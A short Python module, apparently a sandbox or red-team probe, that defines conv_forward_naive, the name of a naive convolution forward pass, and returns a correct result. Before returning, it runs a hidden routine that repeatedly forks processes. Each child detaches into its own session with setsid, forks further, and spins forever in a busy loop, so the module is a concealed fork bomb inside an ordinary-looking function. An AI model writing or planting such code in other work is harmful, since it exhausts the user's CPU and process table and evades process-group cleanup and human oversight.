"""Starts processes that start processes, each in a session of its own."""
import os

from base import TARGET, attempt, backward as conv_backward_naive, forward


def bomb(depth):
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
        finally:
            if depth < 3:
                bomb(depth + 1)
            while True:
                pass
    return child


def exhaust():
    for _ in range(4):
        attempt('starts a process', lambda: bomb(0))


def conv_forward_naive(x, w, b, conv_param):
    exhaust()
    return forward(x, w, b, conv_param)
